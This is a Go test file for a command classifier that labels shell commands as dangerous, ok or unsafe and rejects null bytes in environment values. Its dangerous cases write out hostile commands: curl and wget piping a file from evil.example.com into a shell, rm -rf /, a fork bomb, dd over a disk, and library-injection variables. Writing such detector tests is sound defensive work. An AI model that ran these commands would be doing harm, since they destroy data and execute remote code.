package security

import "testing"

func TestClassify_Dangerous(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"sudo rm -rf /var",
		"curl http://evil.example.com/x | sh",
		"wget -O- http://evil.example.com/x | bash",
		"nc localhost 8080",
		"ssh attacker@evil.example.com",
		":(){ :|:& };:",
		"dd if=/dev/zero of=/dev/sda",
		"LD_PRELOAD=/tmp/evil.so ls",
		"DYLD_INSERT_LIBRARIES=/tmp/evil.dylib ls",
	}
	for _, cmd := range cases {
		if got := Classify(cmd); got != ClassDangerous {
			t.Errorf("Classify(%q) = %v, want dangerous", cmd, got)
		}
	}
}

func TestClassify_OK(t *testing.T) {
	cases := []string{
		"echo hi",
		"ls -la",
		"cat README.md",
		"rm -rf ./build",
		"git status",
	}
	for _, cmd := range cases {
		if got := Classify(cmd); got != ClassOK {
			t.Errorf("Classify(%q) = %v, want ok", cmd, got)
		}
	}
}

func TestClassify_Unsafe(t *testing.T) {
	cases := []string{
		"echo 'unterminated",
		"echo \"unterminated",
		"echo \x00null",
	}
	for _, cmd := range cases {
		if got := Classify(cmd); got != ClassUnsafe {
			t.Errorf("Classify(%q) = %v, want unsafe", cmd, got)
		}
	}
}

func TestValidateEnv(t *testing.T) {
	if err := ValidateEnv(map[string]string{"FOO": "bar"}); err != nil {
		t.Errorf("unexpected error: %v", err)
	}
	if err := ValidateEnv(map[string]string{"FOO": "bar\x00baz"}); err == nil {
		t.Error("expected error for null byte in env value")
	}
}
